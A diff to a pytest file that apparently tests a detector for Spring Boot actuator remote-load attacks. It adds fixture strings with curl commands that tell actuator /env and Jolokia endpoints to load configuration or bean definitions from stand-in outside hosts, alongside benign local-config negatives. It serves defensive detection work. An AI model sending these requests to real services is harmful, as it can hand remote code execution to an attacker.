@@ -31,6 +31,32 @@ J=ch.qos.logback.classic:Name=default,Type=ch.qos.logback.classic.jmx.JMXConfigu
 curl -s "https://app.partner.example/jolokia/exec/$J/reloadByURL/http:!/!/203.0.113.50!/lb.xml"
 ```"""
 
+BOOT_ONE_ENV = """```bash
+curl -X POST http://invoices.partner.example/env -d 'eureka.client.serviceUrl.defaultZone=http://files.relay.example/xs'
+curl -X POST http://invoices.partner.example/refresh
+```"""
+
+MAIN_SOURCES = """```bash
+curl -s -X POST https://app.partner.example/actuator/env -H 'Content-Type: application/json' \\
+  -d '{"name":"spring.main.sources","value":"http://203.0.113.7/beans.xml"}'
+```"""
+
+LOCAL_LOG_CONFIG = """```bash
+curl -s -X POST http://localhost:8080/actuator/env -H 'Content-Type: application/json' \\
+  -d '{"name":"logging.config","value":"classpath:logback-debug.xml"}'
+curl -s -X POST http://localhost:8080/actuator/refresh
+```"""
+
+REPLICA = """```bash
+curl -s -X POST http://localhost:8080/actuator/env -H 'Content-Type: application/json' -d '{"name":"spring.datasource.url","value":"jdbc:postgresql://replica.db.example:5432/orders"}'
+curl -s -X POST http://localhost:8080/actuator/refresh
+```"""
+
+MEMORY_DB = """```bash
+curl -s -X POST http://localhost:8080/actuator/env \\
+  -d '{"name":"spring.datasource.url","value":"jdbc:h2:mem:testdb"}'
+```"""
+
 READ_ENV = """```bash
 curl -s http://localhost:8080/actuator/env | jq '.propertySources[].name'
 curl -s http://localhost:8080/actuator/health
@@ -44,13 +70,13 @@ curl -s -X POST http://localhost:8080/actuator/env -H 'Content-Type: application
 ```"""
 
 
-@pytest.mark.parametrize("response", [ONE_LINE, PYTHON_EUREKA, JOLOKIA])
+@pytest.mark.parametrize("response", [ONE_LINE, PYTHON_EUREKA, JOLOKIA, BOOT_ONE_ENV, MAIN_SOURCES])
 def test_an_actuator_told_to_load_from_an_address_is_read(response: str) -> None:
     reading = read_response(response)
     assert Capability.ACTUATOR_REMOTE_LOAD in reading.capabilities
 
 
-@pytest.mark.parametrize("response", [READ_ENV, LOG_LEVEL])
+@pytest.mark.parametrize("response", [READ_ENV, LOG_LEVEL, LOCAL_LOG_CONFIG, REPLICA, MEMORY_DB])
 def test_reading_the_environment_or_setting_a_level_is_not(response: str) -> None:
     reading = read_response(response)
     assert Capability.ACTUATOR_REMOTE_LOAD not in reading.capabilities
